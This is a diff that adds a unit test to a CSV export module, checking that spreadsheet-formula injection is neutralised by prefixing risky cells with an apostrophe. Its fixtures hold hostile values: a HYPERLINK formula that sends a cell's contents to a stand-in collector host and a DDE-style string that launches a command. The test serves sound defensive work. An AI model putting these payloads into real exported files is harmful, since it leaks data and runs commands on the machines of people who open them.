@@ -48,6 +48,28 @@ describe("CSV export", () => {
     expect(csvField(3)).toBe("3");
   });
 
+  it("a hostile page's text cannot become a spreadsheet formula: it opens as the text itself", () => {
+    const a = fixture();
+    const formula = '=HYPERLINK("https://collector.example/?d="&C2,"Source")';
+    const hostile = {
+      ...a,
+      people: [{ ...a.people[0]!, name: "@SUM(1+1)*cmd|' /C calc'!A0", role: "+1 555 0100" }, ...a.people.slice(1)],
+      quotes: [{ ...a.quotes[0]!, text: formula }, { ...a.quotes[1]!, text: "\t=1+1" }, ...a.quotes.slice(2)],
+    };
+    const rows = parseCsv(toCsv(hostile));
+    const col = (name: (typeof CSV_HEADER)[number]) => CSV_HEADER.indexOf(name);
+    const cells = rows.slice(1).flat();
+    // no cell a spreadsheet would evaluate
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    const quotes = rows.filter((r) => r[0] === "quote");
+    expect(quotes[0]![col("text")]).toBe(`'${formula}`);
+    expect(quotes[1]![col("text")]).toBe("'\t=1+1");
+    const person = rows.find((r) => r[0] === "person" && r[col("name")]!.includes("SUM"))!;
+    expect([person[col("name")], person[col("role")]]).toEqual(["'@SUM(1+1)*cmd|' /C calc'!A0", "'+1 555 0100"]);
+    // counts and offsets are numbers, written as they are
+    expect(csvField(-1)).toBe("-1");
+  });
+
   it("round-trips every person, entity and quote through a strict RFC 4180 parser", () => {
     const a = fixture();
     const rows = parseCsv(toCsv(a));
